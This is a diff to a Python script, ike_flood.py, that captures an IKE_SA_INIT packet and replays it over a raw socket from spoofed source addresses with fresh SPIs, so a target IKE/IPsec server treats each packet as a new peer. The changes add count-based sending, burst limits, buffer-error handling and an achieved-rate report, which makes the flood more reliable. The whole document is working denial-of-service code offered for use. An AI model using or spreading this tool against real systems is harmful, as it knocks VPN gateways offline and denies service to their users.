@@ -2,11 +2,13 @@
 """IKE_SA_INIT from strangers.
 
     ike_flood.py catch ADDRESS FILE               waits for one datagram on port 500, writes it
-    ike_flood.py send FILE TARGET SECONDS RATE    the same one with other SPIs from spoofed addresses
+    ike_flood.py send FILE TARGET COUNT RATE      the same one with other SPIs from spoofed addresses, COUNT
+                                                  times, at most RATE a second; tells the rate it reached
 
 The nonce and the public value stay as they were: to the target each is a new peer.
 """
 
+import errno
 import os
 import socket
 import struct
@@ -31,24 +33,32 @@ def packet(message, number, target):
     return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source + target + udp
 
 
-def send(path, target, seconds, rate):
+BURST = 100         # who is late does not catch up in one go: queues on the way hold no more
+
+
+def send(path, target, count, rate):
     with open(path, "rb") as file:
         message = file.read()
     to = socket.inet_aton(target)
     sent, start = 0, time.monotonic()
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
-        while (now := time.monotonic() - start) < seconds:
-            while sent < now * rate:
+        while sent < count:
+            due = min(count, int((time.monotonic() - start) * rate), sent + BURST)
+            while sent < due:
                 try:
                     sock.sendto(packet(message, sent, to), (target, 0))
-                except OSError:
-                    pass
+                except BlockingIOError:
+                    continue
+                except OSError as error:
+                    if error.errno != errno.ENOBUFS:
+                        raise
+                    continue
                 sent += 1
             time.sleep(0.001)
-    print(f"sent {sent}")
+    print(f"sent {sent}, {sent / (time.monotonic() - start):.0f} a second")
 
 
 if sys.argv[1] == "catch":
     catch(*sys.argv[2:])
 else:
-    send(sys.argv[2], sys.argv[3], float(sys.argv[4]), float(sys.argv[5]))
+    send(sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
